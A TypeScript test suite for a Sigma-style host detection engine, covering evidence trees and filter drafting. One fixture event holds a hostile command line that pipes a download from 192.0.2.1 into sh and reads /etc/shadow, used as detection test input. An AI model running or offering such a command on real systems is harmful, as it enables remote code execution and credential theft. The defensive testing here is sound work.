// The evidence tree is the engine's verdict, told aloud; a filter drafted from an event silences it, and not its neighbour.

import { describe, expect, test } from 'bun:test';
import { resolve } from 'node:path';
import type { HostEvent } from '../../src/core/event.ts';
import { lineEvents } from '../../src/logs/observe.ts';
import type { FieldBag } from '../../src/rules/ast.ts';
import { eventLookup, withMatched } from '../../src/rules/event-lookup.ts';
import { evidenceOf, type ItemEvidence, type PartEvidence } from '../../src/rules/evidence.ts';
import { canonicalName, type Stream } from '../../src/rules/fields.ts';
import { draftFilter } from '../../src/rules/filter-draft.ts';
import type { Lookup } from '../../src/rules/interpret.ts';
import { loadRules } from '../../src/rules/load.ts';
import { streamsOf } from '../../src/rules/logsource.ts';
import { parseRules } from '../../src/rules/parse.ts';
import { compileRuleset, flatten } from '../../src/rules/ruleset.ts';
import { Values } from '../../src/rules/values.ts';
import { connect, exec, hasSigma, RULES, record, rule, ruleText } from './helpers.ts';

const PACK = resolve(import.meta.dir, '../../rules.d');

/** A test's event as its rule reads it. */
function bagLookup(bag: FieldBag, isExec: boolean): Lookup {
  const fields = new Map<string, unknown[]>();
  flatten(bag, '', fields);
  return field => {
    const values = new Values();
    const names = field !== undefined ? [canonicalName(field)] : isExec ? ['process.command_line'] : [...fields.keys()];
    for (const name of names) {
      const value = fields.get(name);
      values.addJson(field === undefined ? value?.filter(one => one !== null) : value);
    }
    return values;
  };
}

const items = (part: PartEvidence): ItemEvidence[] => (part.kind === 'item' ? [part] : part.of.flatMap(items));

describe('the root is the verdict', () => {
  test('of each test of the pack', () => {
    const { rules } = loadRules([PACK]);
    const ruleset = compileRuleset(rules);
    let compared = 0;
    for (const one of rules) {
      for (const { input, logsource = one.logsource } of one.puppy?.tests ?? []) {
        if (input.kind === 'event') {
          const isMatch = ruleset.evaluateFields(input.event, logsource).some(match => match.rule === one.info);
          const lookup = bagLookup(input.event, logsource.category === 'process_creation');
          expect([one.info.title, evidenceOf(one, lookup).holds]).toEqual([one.info.title, isMatch]);
          compared++;
        } else if (input.kind === 'log') {
          for (const event of lineEvents(input.line, 0, logsource.service)) {
            const isMatch = ruleset.evaluate(event).some(match => match.rule === one.info);
            // A rule isn't asked about the lines of other services.
            const { service } = one.logsource;
            const isAsked = service === undefined || event.log.services.includes(service);
            expect(isAsked && evidenceOf(one, eventLookup('log', event)).holds).toBe(isMatch);
            compared++;
          }
        }
      }
    }
    expect(compared).toBeGreaterThan(300);
  });

  const event = exec(
    {
      executable: '/usr/bin/dash',
      invoked: ['/tmp/run.sh', '/bin/sh'],
      args: ['sh', '-c', 'curl http://192.0.2.1/x | sh; cat /etc/shadow'],
      commandLine: 'sh -c curl http://192.0.2.1/x | sh; cat /etc/shadow',
      credentials: { uid: { id: 33, name: 'www-data' } },
    },
    { executable: '/usr/sbin/nginx' },
  );

  test.if(hasSigma)("of each of the corpus' rules over one event", () => {
    const { rules } = loadRules([RULES]);
    const wanted = rules.filter(({ logsource }) => streamsOf(logsource).includes('exec'));
    const matched = new Set(
      compileRuleset(wanted)
        .evaluate(event)
        .map(match => match.rule),
    );
    const lookup = eventLookup('exec', event);
    expect(matched.size).toBeGreaterThan(0);
    for (const one of wanted) {
      expect([one.info.title, evidenceOf(one, lookup).holds]).toEqual([one.info.title, matched.has(one.info)]);
    }
  });
});

test('each node with what decided it: what was tried in filters too', () => {
  const one = rule({
    detection: {
      selection: { 'Image|endswith': ['/bash', '/sh'], 'CommandLine|contains|all': ['a', 'b'] },
      filter_user: { User: 'root' },
      filter_parent: { 'ParentImage|neq': '/usr/bin/make' },
      condition: 'selection and not 1 of filter_*',
    },
  });
  const event = exec({ executable: '/bin/sh', commandLine: 'sh a b' }, { executable: '/usr/bin/make' });
  const tree = evidenceOf(one, eventLookup('exec', event));
  expect(tree).toMatchObject({ kind: 'and', holds: true });
  const [selection, not] = tree.kind === 'and' ? tree.of : [];
  if (selection?.kind !== 'selection' || not?.kind !== 'not' || not.of[0]?.kind !== 'of')
    throw new Error('not the tree');
  expect(
    items(selection.of).map(({ field, modifier, holds, patterns }) => ({ field, modifier, holds, patterns })),
  ).toEqual([
    {
      field: 'Image',
      modifier: 'endswith',
      holds: true,
      patterns: [
        { text: '/bash', holds: false },
        { text: '/sh', holds: true, value: '/bin/sh' },
      ],
    },
    {
      field: 'CommandLine',
      modifier: 'contains|all',
      holds: true,
      patterns: [
        { text: 'a', holds: true, value: 'sh a b' },
        { text: 'b', holds: true, value: 'sh a b' },
      ],
    },
  ]);
  const filters = not.of[0].of;
  expect(not.of[0]).toMatchObject({ holds: false, count: 1 });
  expect(filters.map(({ name, holds }) => [name, holds])).toEqual([
    ['filter_user', false],
    ['filter_parent', false],
  ]);
  expect(items(filters[0]!.of)[0]).toMatchObject({ valueCount: 0, values: [], negated: false });
  expect(items(filters[1]!.of)[0]).toMatchObject({ negated: true, values: ['/usr/bin/make'] });
});

test("what an alert says decided counts where the line doesn't hold it", () => {
  const one = rule({ detection: { sel: { 'ParentImage|endswith': '/sh' }, condition: 'sel' } });
  const lookup = eventLookup('exec', exec({ executable: '/bin/id' }, { executable: '/usr/bin/dash' }));
  expect(evidenceOf(one, lookup).holds).toBe(false);
  expect(evidenceOf(one, withMatched(lookup, [{ field: 'ParentImage', value: '/bin/sh' }])).holds).toBe(true);
});

interface Neighbour {
  readonly name: string;
  readonly logsource: object;
  readonly stream: Stream;
  readonly event: HostEvent;
  readonly near: HostEvent;
}

const image = { executable: '/opt/tool', credentials: { uid: { id: 1000, name: 'alice' } } };
const AUDITD = { product: 'linux', service: 'auditd' };
const withRecords = (...records: ReturnType<typeof record>[]): HostEvent => exec(image, undefined, records);
const logLine = (line: string): HostEvent => lineEvents(line, 0, 'sshd')[0]!;

const NEIGHBOURS: readonly Neighbour[] = [
  {
    name: 'an odd command line',
    logsource: { category: 'process_creation', product: 'linux' },
    stream: 'exec',
    event: exec({ ...image, commandLine: '*?\\*\\\\? "\'#: \u202e\u0085\x1b[31m\n\t ü😀\\' }),
    near: exec({ ...image, commandLine: 'x?\\*\\\\? "\'#: \u202e\u0085\x1b[31m\n\t ü😀\\' }),
  },
  {
    name: 'letters of another case',
    logsource: { category: 'process_creation', product: 'linux' },
    stream: 'exec',
    event: exec({ ...image, commandLine: 'tool -a' }),
    near: exec({ ...image, commandLine: 'tool -A' }),
  },
  {
    name: 'another user',
    logsource: { category: 'process_creation', product: 'linux' },
    stream: 'exec',
    event: exec({ ...image, commandLine: 'tool' }),
    near: exec({ ...image, commandLine: 'tool', credentials: { uid: { id: 0, name: 'root' } } }),
  },
  {
    name: 'another port',
    logsource: { category: 'network_connection', product: 'linux' },
    stream: 'network',
    event: connect({ source: { ip: '192.0.2.1', port: 4000 }, destination: { ip: '192.0.2.7', port: 443 } }, image),
    near: connect({ source: { ip: '192.0.2.1', port: 4000 }, destination: { ip: '192.0.2.7', port: 444 } }, image),
  },
  {
    name: 'another argument of the records',
    logsource: AUDITD,
    stream: 'record',
    event: withRecords(record('EXECVE', { argc: '2', a0: 'tool', a1: '*' }), record('PATH', { name: '/opt/tool' })),
    near: withRecords(record('EXECVE', { argc: '2', a0: 'tool', a1: 'x' }), record('PATH', { name: '/opt/tool' })),
  },
  {
    name: 'another address in a log, whatever the port',
    logsource: { product: 'linux', service: 'sshd' },
    stream: 'log',
    event: logLine('sshd[77]: Accepted password for root from 192.0.2.7 port 51234 ssh2'),
    near: logLine('sshd[77]: Accepted password for root from 192.0.2.8 port 51234 ssh2'),
  },
];

describe('a filter drafted from an event', () => {
  test.each(NEIGHBOURS.map(one => [one.name, one] as const))(
    'silences it alone: %s',
    (_, { logsource, stream, event, near }) => {
      // A rule that everything matches.
      const text = ruleText({
        id: 'the-rule',
        logsource,
        detection: { none: { type: 'none' }, condition: 'not none' },
      });
      const { info, ...source } = parseRules('rule.yml', text).rules[0]!.rule;
      const draft = draftFilter({
        rule: { ...info, logsource: source.logsource },
        stream,
        event,
        records: event.records ?? [],
        matched: [],
        alertId: 'a1',
      });
      const isSilent = filtered(text, draft.text!);
      expect([isSilent(event), isSilent(near)]).toEqual([true, false]);
      expect(draft.text).toMatch(/^[\n -~\u00a1-\uffff]*$/);
      expect(draft.text).not.toMatch(/[\u200b-\u200f\u2028-\u202e]/);
    },
  );

  test('another time, port or process id is the same', () => {
    const line = (pid: number, port: number): HostEvent =>
      logLine(`sshd[${pid}]: Failed password for invalid user x from 192.0.2.7 port ${port} ssh2`);
    const text = ruleText({
      logsource: { product: 'linux', service: 'sshd' },
      detection: { k: ['Failed'], condition: 'k' },
    });
    const source = parseRules('rule.yml', text).rules[0]!.rule;
    const draft = draftFilter({
      rule: { ...source.info, logsource: source.logsource },
      stream: 'log',
      event: line(5123, 40_001),
      records: [],
      matched: [],
      alertId: 'a1',
    });
    expect(filtered(text, draft.text!)(line(6000, 50_002))).toBe(true);
  });

  test('of a line that was cut compares the beginning, and says so', () => {
    const event = {
      ...exec({ ...image, commandLine: 'tool a', args: ['tool', 'a'], argsCount: 9 }),
      warnings: ['argv_truncated'],
    };
    const source = rule({ detection: { s: { Image: '/opt/tool' }, condition: 's' } });
    const { text, notes } = draftFilter({
      rule: { ...source.info, logsource: source.logsource },
      stream: 'exec',
      event,
      records: [],
      matched: [],
      alertId: 'a1',
    });
    expect(text).toContain('CommandLine|startswith|cased: tool a');
    expect(notes).toEqual(['the line holds only the beginning of CommandLine: whatever begins like it is silenced']);
  });
});

/** Whether the rule is silent of an event once the filter lies beside it. */
function filtered(rule: string, filter: string): (event: HostEvent) => boolean {
  const { rules, problems } = loadRules(
    [],
    [
      { file: 'rule.yml', text: rule },
      { file: 'filter.yml', text: filter },
    ],
  );
  expect(problems.filter(problem => problem.file === 'filter.yml')).toEqual([]);
  const ruleset = compileRuleset(rules);
  return event => ruleset.evaluate(event).length === 0;
}
